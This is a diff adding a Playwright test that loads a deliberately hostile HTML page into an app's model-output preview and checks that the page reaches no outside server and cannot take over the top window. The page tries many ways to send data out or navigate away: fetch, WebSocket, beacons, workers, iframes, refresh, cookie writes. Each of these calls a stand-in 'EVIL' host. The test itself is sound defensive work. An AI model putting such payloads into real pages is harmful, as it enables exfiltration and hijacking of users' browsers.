@@ -1,0 +1,91 @@
+"""A page that a model wrote is shown, and reaches nothing."""
+
+import contextlib
+import socket
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import (
+    Browser,
+    expect,
+)
+
+from tests.app.driver import PacedEngine, choose, open_app, preview_text
+
+# Tries to get out in every way that needs no click, says that it ran, and then leaves.
+HOSTILE = """<!doctype html><title>hostile</title>
+<meta http-equiv="refresh" content="3;url=http://EVIL/refresh">
+<link rel="stylesheet" href="http://EVIL/style"><link rel="prefetch" href="http://EVIL/prefetch">
+<link rel="preconnect" href="http://EVIL"><link rel="modulepreload" href="http://EVIL/module">
+<style>@import "http://EVIL/import"; body { background: url(http://EVIL/background) }
+@font-face { font-family: evil; src: url(http://EVIL/font) } p { font-family: evil }</style>
+<img src="http://EVIL/img"><iframe src="http://EVIL/frame"></iframe><embed src="http://EVIL/embed">
+<object data="http://EVIL/object"></object><video src="http://EVIL/video" autoplay></video>
+<a target="_top" href="http://EVIL/a" ping="http://EVIL/ping">a</a>
+<form target="_top" action="http://EVIL/form"></form>
+<p>before</p>
+<script>
+const attempts = [
+  () => fetch('http://EVIL/fetch'),
+  () => new WebSocket('ws://EVIL/socket'),
+  () => new EventSource('http://EVIL/events'),
+  () => navigator.sendBeacon('http://EVIL/beacon'),
+  () => import('http://EVIL/import'),
+  () => new Worker('data:text/javascript,fetch("http://EVIL/worker")'),
+  () => { new Image().src = 'http://EVIL/image' },
+  () => { top.location = 'http://EVIL/top' },
+  () => { parent.location = 'http://EVIL/parent' },
+  () => open('http://EVIL/popup'),
+  () => document.querySelector('a').click(),
+  () => document.querySelector('form').submit(),
+  () => { top.document.title = 'owned' },
+  () => { parent.parent.document.title = 'owned' },
+  () => localStorage.setItem('a', 'b'),
+  () => { document.cookie = 'likeness=stolen' },
+  () => alert('dialog'),
+  () => top.postMessage({value: 'owned', run: 'owned'}, '*'),
+];
+for (const attempt of attempts) try { attempt(); } catch {}
+document.body.insertAdjacentHTML('beforeend', '<p>ran</p>');
+setTimeout(() => { location = 'http://EVIL/leave' }, 1000);
+</script>"""
+
+
+def received(server: socket.socket) -> list[bytes]:
+    """What each connection to the server has sent so far."""
+    messages = []
+    with contextlib.suppress(BlockingIOError):
+        while True:
+            connection, _ = server.accept()
+            connection.settimeout(0.5)
+            try:
+                messages.append(connection.recv(1024))
+            except TimeoutError:
+                messages.append(b"")
+    return messages
+
+
+def test_a_hostile_page_reaches_nothing(
+    browser: Browser, screenshot: Path, url: str, monkeypatch: pytest.MonkeyPatch
+):
+    with socket.create_server(("127.0.0.1", 0)) as evil, browser.new_context() as context:
+        evil.setblocking(False)
+        address = "{}:{}".format(*evil.getsockname())
+        monkeypatch.setattr(PacedEngine, "html", HOSTILE.replace("EVIL", address))
+        page = open_app(context, url)
+        choose(page, screenshot, "paced")
+        page.get_by_role("slider", name="Passes").press("Home")
+        PacedEngine.go.release()
+        page.get_by_role("button", name="Generate").click()
+        expect(preview_text(page)).to_contain_text("before", timeout=60_000)
+        expect(preview_text(page)).not_to_contain_text("ran")
+        page.wait_for_timeout(3500)  # until the refresh
+        assert received(evil) == []
+        page.get_by_label("Run scripts").check()
+        expect(preview_text(page)).to_contain_text("ran")
+        page.wait_for_timeout(1500)  # until it leaves
+        assert b"".join(received(evil)) == b""
+        assert len(context.pages) == 1
+        assert page.title() == "Likeness"
+        assert page.url.startswith(url)
+        assert "stolen" not in str(context.cookies())
